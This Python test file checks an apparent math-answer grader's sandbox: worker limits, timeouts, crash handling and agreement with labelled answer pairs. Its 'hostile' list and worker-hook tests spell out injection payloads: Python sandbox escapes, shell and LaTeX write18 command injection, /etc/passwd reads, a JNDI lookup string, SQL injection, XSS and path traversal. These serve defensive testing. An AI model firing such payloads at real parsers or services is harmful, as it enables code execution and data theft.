"""The grader: hostile answers harm nothing and end, and verdicts agree with labels known by construction."""

import contextlib
import os
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from deftune.evaluation import grading_worker
from deftune.evaluation.answers import Rule, Verdict, normalize_answer, prepare_pair
from deftune.evaluation.grading import Grader
from growth import assert_linear
from waiting import HANG_SECONDS, wait_for

pytest.importorskip("math_verify")
sys.path.insert(0, str(Path(__file__).parent))
from labelled_pairs import DATA, DIFFERENT, SAME, VERDICTS, labelled_pairs

needs_math = pytest.mark.skipif(
    not (DATA / "math").is_dir(), reason=f"the MATH answers are not beside this checkout ({DATA / 'math'})"
)


def children() -> set[int]:
    """The processes whose parent is this one, zombies included."""
    listed = subprocess.run(["ps", "-A", "-o", "pid=,ppid="], capture_output=True, text=True, check=True).stdout
    found = {int(pid) for pid, parent in map(str.split, listed.splitlines()) if int(parent) == os.getpid()}
    return {pid for pid in found if Path(f"/proc/{pid}").exists()}  # ps itself is gone by now


@pytest.fixture
def leaves_nothing(tmp_path, monkeypatch):
    # its own: other processes of these tests grade at the same time
    folder = tmp_path / "temporary"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    before, descriptors = children(), set(os.listdir("/proc/self/fd"))
    yield
    assert not children() - before, "a worker is left"
    assert len(os.listdir("/proc/self/fd")) <= len(descriptors), "a pipe is left open"
    assert not any(folder.iterdir()), "a folder is left"


# --- hostile answers -------------------------------------------------------------------------------------------------


def hostile(canary: Path) -> list[str]:
    """More than 200 answers that no grader should run; what can leave a trace would leave it at ``canary``."""
    touch = f"__import__('os').system('touch {canary}')"
    code = [
        touch,
        f"__import__('subprocess').run(['touch', '{canary}'])",
        f"open('{canary}', 'w')",
        f"open('{canary}', 'w').write('x')",
        "open('/etc/passwd').read()",
        f"exec(\"open('{canary}','w')\")",
        f"eval(compile(\"{touch}\", 'x', 'eval'))",
        f"(lambda: {touch})()",
        f"[f() for f in [lambda: {touch}]]",
        f"().__class__.__base__.__subclasses__()[-1].__init__.__globals__['os'].system('touch {canary}')",
        f"getattr(__builtins__, 'ev' + 'al')(\"{touch}\")",
        f'sympify("{touch}")',
        f'parse_expr("{touch}")',
        f'lambdify([], "{touch}")()',
        f"Symbol('x').__class__.__init__.__globals__['sys'].modules['os'].system('touch {canary}')",
        f"$(touch {canary})",
        f"`touch {canary}`",
        f"; touch {canary} #",
        f"| touch {canary}",
        f"\\immediate\\write18{{touch {canary}}}",
        f"\\input{{|touch {canary}}}",
        "\\input{/etc/passwd}",
        f"\\openout1={canary}",
        "__import__('socket').create_connection(('192.0.2.1', 80))",
        "__import__('os').fork()",
        "__import__('time').sleep(1000)",
        "while True: pass",
        "quit()",
        "__import__('os')._exit(0)",
        "__import__('os').kill(__import__('os').getppid(), 9)",
        "{}.__class__.__mro__",
        "f'{__import__(\"os\")}'",
        "'%s' % __import__('os')",
        "{{ 7 * 7 }}",
        "${jndi:ldap://192.0.2.1/a}",
        "'; DROP TABLE answers; --",
        '["ready"]\n[true, "both"]',
        "[true, true]\n",
    ]
    wrappers = ["{}", "\\text{{{}}}", "\\frac{{{}}}{{1}}", "x = {}", "\\left( {} \\right)"]
    wrapped = [wrapper.format(attack) for attack in code for wrapper in wrappers[: 1 if "{" in attack else None]]
    numbers = [
        "9**9**9",
        "9^9^9",
        "9^{9^{9^{9}}}",
        "(9^{9^9})!",
        "10^{10^{10}}",
        "2^{2^{2^{2^{2^{2}}}}}",
        "100000000!",
        "((((9!)!)!)!)!",
        "\\binom{10^{9}}{5 \\cdot 10^{8}}",
        "\\sum_{n=1}^{10^{12}} \\frac{1}{n^2}",
        "\\prod_{n=1}^{10^9} n",
        "\\int_0^1 x^{x^{x^x}} dx",
        "\\int \\int \\int \\sin(e^{x^2}) dx dx dx",
        "\\lim_{x \\to 0} \\frac{\\sin(\\tan x) - \\tan(\\sin x)}{x^7}",
        "(x+y+z+w)^{500}",
        "(1+x)^{10^6}",
        "1e999999999",
        "-1e999999999",
        "10^{-999999999}",
        "0." + "3" * 9_000,
        "3" * 9_900,
        "1/" + "7" * 5_000,
        "1/0",
        "\\frac{0}{0}",
        "0^0",
        "\\infty - \\infty",
        "\\sqrt[0]{1}",
        "\\log(0)",
        "\\sqrt[10^9]{2}",
        "\\pi^{\\pi^{\\pi^{\\pi^{\\pi}}}}",
        "e^{e^{e^{e^{79}}}}",
        "\\gcd(" + "9" * 3000 + ", 3)",
        "2^{1000000} \\bmod 7",
        "\\zeta(10^{10})",
        "nan",
        "inf",
        "NaN",
        "1_000",
        "0x1F",
        "0b1",
        "٣",
        "½",
        "²",
        "1\u200b0",
    ]
    shapes = [
        "{" * 4_000 + "}" * 4_000,
        "(" * 4_000 + "1" + ")" * 4_000,
        "{" * 50_000 + "}" * 50_000,
        "{" * 100_000,
        "}" * 100_000,
        "\\boxed{" * 10_000,
        "\\boxed{" * 500 + "1" + "}" * 500,
        "\\frac{1}{" * 300 + "2" + "}" * 300,
        "\\frac{1}{1+" * 60 + "2" + "}" * 60,
        "\\sqrt{" * 800 + "2" + "}" * 800,
        "x^{" * 1000 + "2" + "}" * 1000,
        "-" * 9_000 + "1",
        "+".join("x" * 3_000),
        "1+" * 4_000 + "1",
        ",".join("1234567890" * 400),
        "=".join("x" * 2_000),
        "\\cup".join(["(1,2)"] * 300),
        "\\begin{pmatrix}" + " & ".join("1" * 300) + "\\end{pmatrix}",
        "\\begin{pmatrix}" * 300 + "\\end{pmatrix}" * 300,
        "\\left(" * 400 + "\\right)" * 400,
        "\\text{" * 200 + "}" * 200,
        "|" * 3_000,
        "$" * 5_000,
        "\\" * 5_001,
        "%" * 5_000,
        "&" * 5_000,
        "^" * 5_000,
        "_" * 5_000,
        "^{" * 1_000 + "}" * 1_000,
        "\\frac" * 1_500,
        "\\sqrt" * 1_500,
        "a" * 9_999,
        "1 " * 4_900,
        "1," * 4_900,
        "1" * 1_000_000,
        "{" * 1_000_000,
        "\x00" * 1_000_000,
        "é" * 1_000_000,
    ]
    odd = [
        "",
        " ",
        "\n",
        "\x00",
        "1\x00",
        "\x00__import__",
        "\ud800",
        "1\udfff",
        "\ufeff1",
        "\u202e1",
        "\N{MATHEMATICAL DOUBLE-STRUCK DIGIT ONE}",
        "\N{FULLWIDTH DIGIT ONE}\N{FULLWIDTH DIGIT TWO}",
        "∞",
        "🦊",
        "\\",
        "\\\\",
        "{",
        "}",
        "}{",
        "\\{",
        "\\}",
        "$",
        "$$",
        "$$$",
        "\\(",
        "\\)",
        "\\[\\]",
        "\\boxed",
        "\\boxed{",
        "\\boxed{}",
        "\\frac",
        "\\frac{}{}",
        "\\frac{1}",
        "\\sqrt",
        "\\sqrt{}",
        "\\begin{pmatrix}",
        "\\end{pmatrix}",
        "\\left",
        "\\right)",
        "\\text{",
        "^",
        "_",
        "=",
        "==",
        "<",
        "1<2<3<",
        "()",
        "[]",
        "[1,",
        "(,)",
        ",",
        ",,,",
        ".",
        "...",
        "-",
        "--1",
        "+",
        "*",
        "**",
        "/",
        "//",
        "!",
        "1!!",
        "%",
        "#",
        "&",
        "~",
        "`",
        "'",
        '"',
        "@",
        "?",
        ":",
        ";",
        "None",
        "True",
        "False",
        "null",
        "undefined",
        "self",
        "import os",
        "lambda x: x",
        "print(1)",
        "E",
        "I",
        "S",
        "N",
        "O",
        "Q",
        "beta",
        "gamma",
        "zeta",
        "\r\n1\r\n",
        "\t1",
        "1\x1b[2J",
        "<script>alert(1)</script>",
        "../../../etc/passwd",
        "file:///etc/passwd",
        "\\def\\x{\\x\\x}\\x",
        "\\newcommand{\\a}{\\a\\a}\\a",
        "\\loop\\iftrue\\repeat",
    ]
    return wrapped + numbers + shapes + odd


@pytest.mark.parametrize("part", [0, *(pytest.param(k, marks=pytest.mark.slow) for k in range(1, 5))])
def test_hostile_answers_leave_no_trace_and_end(tmp_path, leaves_nothing, part):
    """Each ends within its cpu time, which a loaded machine does not change; none waits for the clock's backstop."""
    canary = tmp_path / "canary"
    answers = hostile(canary)[part::5]
    assert len(answers) >= 40
    here = set(os.listdir("."))
    with Grader(workers=2, seconds=0.2, memory_mib=512, wall_seconds=HANG_SECONDS) as grader:
        verdicts = grader.grade([("31337", answer) for answer in answers])
        assert sum(grader.counts.values()) == len(answers)
    assert not canary.exists() and set(os.listdir(".")) == here
    wrongly_credited = [answer[:80] for answer, verdict in zip(answers, verdicts) if verdict.correct]
    assert wrongly_credited == []
    assert {verdict.detail for verdict in verdicts if verdict.how == "timeout"} == {"0.2 s of cpu time"}
    hurt = sum(verdict.how in ("timeout", "crash") for verdict in verdicts)
    assert hurt < len(answers) / 2, f"{hurt} of {len(answers)} answers ended by force"


def test_a_hostile_gold_is_no_better(leaves_nothing):
    with Grader(workers=1, seconds=0.5) as grader:
        golds = ["9^{9^{9^{9}}}", "{", "x" * 20_000, "", "__import__('os').system('true')"]
        assert not any(verdict.correct for verdict in grader.grade([(gold, "3") for gold in golds]))


# --- what the workers may not do -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "attempt",
    [
        "open({canary!r}, 'w')",
        "open('/etc/passwd')",
        "os.open({canary!r}, os.O_CREAT | os.O_WRONLY)",
        "os.system('touch {canary}')",
        "subprocess.Popen(['touch', {canary!r}])",
        "socket.socket()",
        "os.fork()",
        "os.kill(os.getppid(), 0)",
        "os.remove({canary!r})",
        "os.mkdir({canary!r})",
        "os.execv('/bin/true', ['true'])",
        "resource.setrlimit(resource.RLIMIT_CORE, (0, 0))",
        "open(os.path.join(sys.prefix, '..', '..', '..', '..', '..', '..', 'etc', 'passwd'))",
        "open(os.dup(0))",
        *(f"open(library, {mode!r})" for mode in ("w", "a", "x", "r+")),
        *(f"os.open(library, os.O_{flag})" for flag in ("WRONLY", "RDWR", "CREAT", "TRUNC", "APPEND")),
    ],
)
def test_the_hook_ends_a_worker_that_tries(attempt, tmp_path):
    canary = str(tmp_path / "canary")
    done = attempted(attempt.format(canary=canary), tmp_path)
    assert done.returncode == grading_worker.REFUSED, done.stderr.decode()
    assert not Path(canary).exists()


def test_a_worker_may_read_its_libraries(tmp_path):
    done = attempted("open(library).close(), open(os.fsencode(library)).close()", tmp_path)
    assert done.returncode == 0, done.stderr.decode()


def attempted(attempt: str, folder: Path) -> "subprocess.CompletedProcess[bytes]":
    """The worker's own preparation, then the attempt in place of an answer; ``library`` is a file it may read."""
    (folder / "library").mkdir()
    (folder / "library" / "file").touch()
    program = (
        "import os, sys, subprocess, socket, resource, runpy\n"
        f"work = runpy.run_path({grading_worker.__file__!r}, run_name='worker')\n"
        f"library = {str(folder / 'library' / 'file')!r}\n"
        "work['_limit'](1024)\n"
        "sys.addaudithook(work['_refuse']((sys.prefix + os.sep, os.path.dirname(library) + os.sep)))\n"
        f"try:\n    {attempt}\nexcept BaseException as problem:\n    print(problem, file=sys.stderr)\n"
    )
    return subprocess.run([sys.executable, "-P", "-c", program], capture_output=True, timeout=HANG_SECONDS)


@pytest.mark.parametrize(
    "system, refused, fails",
    [("linux", "RLIMIT_AS", True), ("linux", "RLIMIT_NPROC", False), ("darwin", "RLIMIT_AS", False)],
)
def test_a_limit_that_cannot_be_set_ends_the_worker_on_linux(system, refused, fails, monkeypatch):
    """macOS has no limit of the address space, and some containers none of the processes."""

    wanted = {}

    def setrlimit(limit, values):
        wanted[limit] = values
        if limit == getattr(resource, refused):
            raise ValueError("not allowed")

    monkeypatch.setattr(resource, "setrlimit", setrlimit)
    monkeypatch.setattr(sys, "platform", system)
    with pytest.raises(ValueError, match="not allowed") if fails else contextlib.nullcontext():
        grading_worker._limit(1024)
    limits = {"AS": 1024 << 20, "NOFILE": 32, "FSIZE": 0, "CORE": 0, "NPROC": 0}
    expected = {getattr(resource, f"RLIMIT_{name}"): (value, value) for name, value in limits.items()}
    assert wanted == expected or (fails and wanted.items() <= expected.items() and wanted)


def test_an_answer_that_gets_code_to_run_is_a_crash(tmp_path, monkeypatch, leaves_nothing):
    """With a math_verify in the worker that does run what it parses, and swallows every exception."""
    canary = tmp_path / "canary"
    (tmp_path / "math_verify.py").write_text(
        "import dataclasses, os, socket, sympy\n"
        "@dataclasses.dataclass\n"
        "class Normalization:\n"
        "    units: bool = True\n"
        "@dataclasses.dataclass\n"
        "class LatexExtractionConfig:\n"
        "    boxed_match_priority: int = 50\n"
        "    normalization_config: Normalization = dataclasses.field(default_factory=Normalization)\n"
        "def parse(text, *args, **kwargs):\n"
        "    try:\n"
        f"        if 'write' in text: open({str(canary)!r}, 'w')\n"
        f"        if 'system' in text: os.system('touch {canary}')\n"
        "        if 'connect' in text: socket.create_connection(('192.0.2.1', 80))\n"
        "        if 'fork' in text: os.fork()\n"
        "        if 'fall' in text: os.abort()\n"
        "        if 'leave' in text: os._exit(0)\n"
        "        if 'eat' in text: return [len(bytearray(1 << 31))]\n"
        "    except BaseException:\n"
        "        return []\n"
        "    return [sympy.Integer(1)]\n"
        "def verify(gold, answer, **kwargs):\n"
        "    return bool(answer)\n"
    )
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    with Grader(workers=2) as grader:
        verdicts = grader.grade(
            [("1", attempt) for attempt in ("write", "system", "connect", "fork", "fall", "leave", "eat", "no")]
        )
        assert grader.counts["crash"] == 6
    refused = Verdict(False, "crash", "it tried something that grading never needs")
    assert verdicts[:4] == [refused] * 4
    assert verdicts[4:] == [
        Verdict(False, "crash", "signal 6"),
        Verdict(False, "crash", "exit status 0"),
        Verdict(False, "unparsed", "math-verify cannot read the answer"),
        Verdict(True, "math_verify"),
    ]
    assert not canary.exists()


def test_limits_are_in_force(leaves_nothing):
    with Grader(workers=1, memory_mib=700) as grader:
        grader.grade([("1", "2")])
        (worker,) = grader._running
        limits = Path(f"/proc/{worker.process.pid}/limits").read_text()
        environment = Path(f"/proc/{worker.process.pid}/environ").read_bytes()
        folder = os.readlink(f"/proc/{worker.process.pid}/cwd")
        assert os.getsid(worker.process.pid) == worker.process.pid
        assert os.listdir(folder) == []
        assert {os.readlink(f"/proc/{worker.process.pid}/fd/{n}") for n in (0, 1, 2)} == {"/dev/null"}
    rows = {row[:26].strip(): row[26:].split()[:2] for row in limits.splitlines()}
    assert rows["Max address space"] == [str(700 << 20)] * 2
    assert rows["Max file size"] == ["0"] * 2 and rows["Max core file size"] == ["0"] * 2
    assert rows["Max open files"] == ["32"] * 2 and rows["Max processes"] == ["0"] * 2
    names = {entry.split(b"=")[0].decode() for entry in environment.split(b"\0") if entry}
    assert names <= {"HOME", "LD_LIBRARY_PATH", "PYTHONHASHSEED", "PYTHONPATH", "SYSTEMROOT"}


def test_a_worker_that_runs_out_of_memory_is_not_the_parents_problem(leaves_nothing):
    with Grader(workers=1, seconds=3, memory_mib=256) as grader:
        eaten, fine = grader.grade([("1", "\\frac{1}{3^{9^{9}}}"), ("2", "1+1")])
        assert not eaten.correct and fine == Verdict(True, "math_verify")


# --- time, crashes, ends ---------------------------------------------------------------------------------------------

SLOW = "9^{9^{9^{9}}}"


def test_a_timeout_is_counted_and_the_next_answer_is_graded(leaves_nothing):
    with Grader(workers=1, seconds=0.3, wall_seconds=HANG_SECONDS) as grader:
        verdicts = grader.grade([("1/2", "0.5"), ("1", SLOW), ("2", "1+1"), ("3", "3"), ("3", None)])
        assert verdicts == [
            Verdict(True, "math_verify"),
            Verdict(False, "timeout", "0.3 s of cpu time"),
            Verdict(True, "math_verify"),
            Verdict(True, "exact"),
            Verdict(False, "unparsed", "no answer"),
        ]
        assert grader.counts == {"exact": 1, "math_verify": 2, "tolerance": 0, "timeout": 1, "crash": 0, "unparsed": 1}


def test_the_wall_clock_is_the_backstop(leaves_nothing):
    with Grader(workers=1, seconds=30, wall_seconds=0.5) as grader:
        assert grader.grade([("1", SLOW)]) == [Verdict(False, "timeout", "0.5 s by the clock")]
        grader.wall_seconds = HANG_SECONDS
        assert grader.grade([("2", "1+1")]) == [Verdict(True, "math_verify")]


def test_a_worker_that_dies_between_answers_costs_nothing(leaves_nothing):
    with Grader(workers=1) as grader:
        grader.grade([("1", "1+0")])
        (idle,) = grader._running
        os.kill(idle.process.pid, signal.SIGKILL)
        wait_for(lambda: _state(idle.process.pid) in (None, "Z"), lambda: "the worker is still running")
        assert grader.grade([("2", "1+1")]) == [Verdict(True, "math_verify")]


@pytest.mark.parametrize("deaths, how", [(1, "timeout"), (2, "crash")])
def test_an_answer_is_a_crash_when_two_workers_die_of_it(deaths, how, leaves_nothing):
    def kill_busy_workers():
        killed: set[int] = set()
        while len(killed) < deaths and not graded.is_set():
            for worker in list(grader._running):
                if worker.task == 0 and worker.process.pid not in killed:
                    killed.add(worker.process.pid)
                    os.kill(worker.process.pid, signal.SIGKILL)
            time.sleep(0.02)

    graded = threading.Event()
    with Grader(workers=1, seconds=3, wall_seconds=HANG_SECONDS) as grader:
        killer = threading.Thread(target=kill_busy_workers)
        killer.start()
        slow, fine = grader.grade([("1", SLOW), ("2", "1 + 1")])
        graded.set()
        killer.join()
    assert slow.how == how and fine == Verdict(True, "math_verify")


@pytest.mark.parametrize(
    "program, message",
    [
        ("raise ImportError('no antlr')", "a grading worker could not start: ImportError: no antlr"),
        ("import os; os._exit(3)", r"ended while starting \(exit status 3\); is memory_mib too small"),
    ],
)
def test_a_worker_that_cannot_start_is_an_error(program, message, tmp_path, monkeypatch, leaves_nothing):
    (tmp_path / "math_verify.py").write_text(program)
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    with Grader(workers=1) as grader, pytest.raises(RuntimeError, match=message):
        grader.grade([("1", "1+0")])


@pytest.mark.parametrize("workers, answers", [(1, 3), (2, 1)])
def test_no_more_workers_than_allowed_or_needed(workers, answers, leaves_nothing):
    with Grader(workers=workers) as grader:
        grader.grade([(str(n), f"{n}+0") for n in range(answers)])
        assert len(grader._running) == 1


def test_the_parent_sleeps_while_workers_start_and_grade(leaves_nothing):
    with Grader(workers=1, seconds=1, wall_seconds=HANG_SECONDS) as grader:
        before = time.process_time()
        assert grader.grade([("1", SLOW)])[0].how == "timeout"
        assert time.process_time() - before < 0.1  # a loop that polls takes as long as the start


def test_workers_are_recycled(leaves_nothing):
    with Grader(workers=1, tasks_per_worker=2) as grader:
        seen = set()
        for n in range(4):
            assert grader.grade([(str(n), f"{n}+0")])[0].correct
            seen |= {worker.process.pid for worker in grader._running}
        assert len(seen) == 2 and grader._running == []


def test_nothing_is_left_when_the_parent_raises(leaves_nothing):
    with pytest.raises(KeyboardInterrupt), Grader(workers=2) as grader:
        grader.grade([("1", "1+0"), ("2", "1+1")])
        assert len(children()) >= 2
        raise KeyboardInterrupt


class Interrupted(BaseException):
    pass


def test_an_interrupt_while_grading_leaves_no_half_graded_answer(leaves_nothing):
    def interrupt(*_):
        raise Interrupted

    old = signal.signal(signal.SIGALRM, interrupt)
    try:
        with Grader(workers=2, seconds=30) as grader:
            grader.grade([("1", "1+0"), ("2", "1+1")])
            at_work = threading.Thread(target=interrupt_when_busy, args=(grader,), daemon=True)
            with pytest.raises(Interrupted):
                at_work.start()
                grader.grade([("1", SLOW), ("2", SLOW)])
            at_work.join()
            assert grader._running == []
            assert grader.grade([("2", "3")]) == [Verdict(False, "math_verify")]
    finally:
        signal.signal(signal.SIGALRM, old)


def interrupt_when_busy(grader: Grader) -> None:
    wait_for(lambda: sum(worker.task is not None for worker in list(grader._running)) == 2)
    signal.pthread_kill(threading.main_thread().ident, signal.SIGALRM)


def test_nothing_is_left_when_the_parent_is_killed(tmp_path):
    program = (
        "import os, signal\nfrom deftune.evaluation.grading import Grader\ngrader = Grader(workers=2)\n"
        "grader.grade([('1', '1+0'), ('2', '1+1')])\n"
        "print(*(w.process.pid for w in grader._running), flush=True)\nos.kill(os.getpid(), signal.SIGKILL)\n"
    )
    env = {**os.environ, "TMPDIR": str(tmp_path)}  # what is killed cannot tidy up its folder
    command = [sys.executable, "-c", program]
    done = subprocess.run(command, capture_output=True, text=True, timeout=HANG_SECONDS, env=env)
    workers = [int(pid) for pid in done.stdout.split()]
    assert len(workers) == 2, done.stderr
    # each reads the end of its pipe and ends
    wait_for(lambda: all(_state(pid) in (None, "Z") for pid in workers), lambda: f"one of {workers} is still running")


def _state(pid: int) -> str | None:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return None


def test_closed_is_closed(leaves_nothing):
    grader = Grader()
    grader.close()
    grader.close()
    with pytest.raises(ValueError, match="this grader is closed; make another"):
        grader.grade([("1", "1")])


def test_closing_does_not_mind_that_its_folder_is_gone():
    with Grader(workers=1) as grader:
        shutil.rmtree(grader._folder)


def test_the_limits_by_default():
    """Verdicts depend on them: whoever changes one raises the versions of the tasks."""
    with Grader() as grader:
        assert (grader.seconds, grader.wall_seconds, grader.memory_mib) == (5.0, 300.0, 1024)
        assert (grader.max_characters, grader.workers, grader.tasks_per_worker) == (10_000, 2, 2_000)


def test_the_parent_never_imports_sympy():
    program = (
        "import sys\nfrom deftune.evaluation.grading import Grader\n"
        "with Grader(workers=1) as grader:\n    assert grader.grade([('1/2', '0.5')])[0].correct\n"
        "print(sorted({'sympy', 'math_verify', 'latex2sympy2_extended'} & set(sys.modules)))\n"
    )
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=HANG_SECONDS)
    assert done.stdout.strip() == "[]", done.stderr


def test_arguments_are_checked():
    with pytest.raises(ValueError, match="workers: at least 1, got 0"):
        Grader(workers=0)
    with pytest.raises(ValueError, match="memory_mib: at least 256, got 1"):
        Grader(memory_mib=1)
    Grader(max_characters=1, tasks_per_worker=1).close()


# --- verdicts --------------------------------------------------------------------------------------------------------


def test_verdicts(leaves_nothing):
    with Grader(workers=2) as grader:
        for unbalanced in ("{5", "5}", "}5{"):
            assert grader.grade([("5", unbalanced)]) == [Verdict(False, "unparsed", "unbalanced braces in the answer")]
        verdicts = grader.grade([(gold, answer) for gold, answer, _, _ in VERDICTS])
    got = [(gold, answer, verdict.correct, verdict.how) for (gold, answer, _, _), verdict in zip(VERDICTS, verdicts)]
    assert got == VERDICTS


@pytest.mark.parametrize("pairs, label", [(DIFFERENT, False), (SAME, True)], ids=["different", "same"])
def test_pairs_that_graders_get_wrong(pairs, label):
    with Grader(workers=2) as grader:
        verdicts = grader.grade([(gold, answer) for gold, answer, _ in pairs], [rule for *_, rule in pairs])
    assert [(pair, verdict) for pair, verdict in zip(pairs, verdicts) if verdict.correct != label] == []


def test_verdicts_that_units_decide():
    with Grader(workers=1) as grader:
        assert grader.grade([("5 cm", "5 m")]) == [Verdict(False, "exact", "the units differ: cm and m")]
        with_unit = grader.grade([("5", "5 m"), ("5", "5 km")], [Rule(unit="km")] * 2)
        assert with_unit == [Verdict(False, "exact", "the units differ: km and m"), Verdict(True, "exact")]


@pytest.mark.parametrize("formula", ["$7$", "$$7$$", r"\(7\)", r"\[7.\]", r"$\(7\)$.", "$ 7 $"])
def test_the_signs_around_a_formula_are_typography(formula):
    assert normalize_answer(formula) == "7"


@given(st.text(alphabet=st.sampled_from("\\{}$.,! 0123456789abcfrtx-+^_dé°\x00")) | st.text())
@example("\\text{" * 50 + "}" * 50)
@settings(max_examples=300, deadline=None)
def test_normalising_never_raises_and_keeps_words_apart(text):
    normalize_answer(text)
    assert normalize_answer(f"1 {text} 1") != "11"


@given(st.integers(-(10**9), 10**9), st.integers(-(10**9), 10**9))
def test_different_integers_stay_different(a, b):
    assert (normalize_answer(f"{a:,}") == normalize_answer(str(b))) == (a == b)


@pytest.mark.parametrize("piece", ["{", "\\text{", " ", "1,", "\\frac", "$", "\\"])
def test_normalising_is_linear(piece):
    assert_linear(lambda size: normalize_answer(piece * size + "x"), 100_000)


@pytest.mark.parametrize(
    "piece",
    ["{", "\\text{", " ", "1,", "1,000", "$", "\\", "%", "AB=", ",AB", "\\!", "percent", "5 m", "**", "** ",
     "\\phantom{", "\\langle", "\\langle 1,", "⟨", "x^", "1x", "sqrt(", "\\{x|<", "\\hspace{", "0.1"],
)  # fmt: skip
def test_preparing_a_pair_is_linear(piece):
    assert_linear(lambda size: prepare_pair("5", "x" + piece * size + "x", Rule()), 5_000)


# --- agreement -------------------------------------------------------------------------------------------------------

LEAST_AGREEMENT = 0.995


def agreement(pairs, workers: int) -> tuple[list[Verdict], list[str]]:
    with Grader(workers=workers) as grader:
        verdicts = grader.grade([(gold, answer) for gold, answer, _, _ in pairs])
    misses = [
        f"{name}: gold {gold!r}, answer {answer!r}, label {label}, got {verdict}"
        for (gold, answer, name, label), verdict in zip(pairs, verdicts)
        if verdict.correct != label
    ]
    return verdicts, misses


@pytest.mark.long
@needs_math
def test_agreement_with_labels(leaves_nothing):
    pairs = labelled_pairs(1_200, seed=0)
    assert len(pairs) >= 1_000 and 0.4 < sum(label for *_, label in pairs) / len(pairs) < 0.6
    assert len({name for _, _, name, _ in pairs}) >= 35
    verdicts, misses = agreement(pairs, workers=2)
    report = f"{len(misses)} misses of {len(pairs)}:\n" + "\n".join(misses)
    assert 1 - len(misses) / len(pairs) >= LEAST_AGREEMENT, report
    assert not any(verdict.how in ("timeout", "crash") for verdict in verdicts)
    print(f"\nagreement {1 - len(misses) / len(pairs):.4%}; {report}")


@pytest.mark.long
@needs_math
def test_the_same_verdicts_from_any_number_of_workers(leaves_nothing):
    pairs = labelled_pairs(160, seed=1)
    one = agreement(pairs, workers=1)
    assert agreement(pairs, workers=4) == one
    assert agreement(pairs[::-1], workers=2)[0] == one[0][::-1]


@pytest.mark.slow
@needs_math
def test_agreement_on_many_and_from_many_workers(leaves_nothing):
    pairs = labelled_pairs(6_000, seed=2)
    one, misses = agreement(pairs, workers=1)
    assert 1 - len(misses) / len(pairs) >= LEAST_AGREEMENT, "\n".join(misses)
    for workers in (2, 4, 16):
        assert agreement(pairs, workers)[0] == one
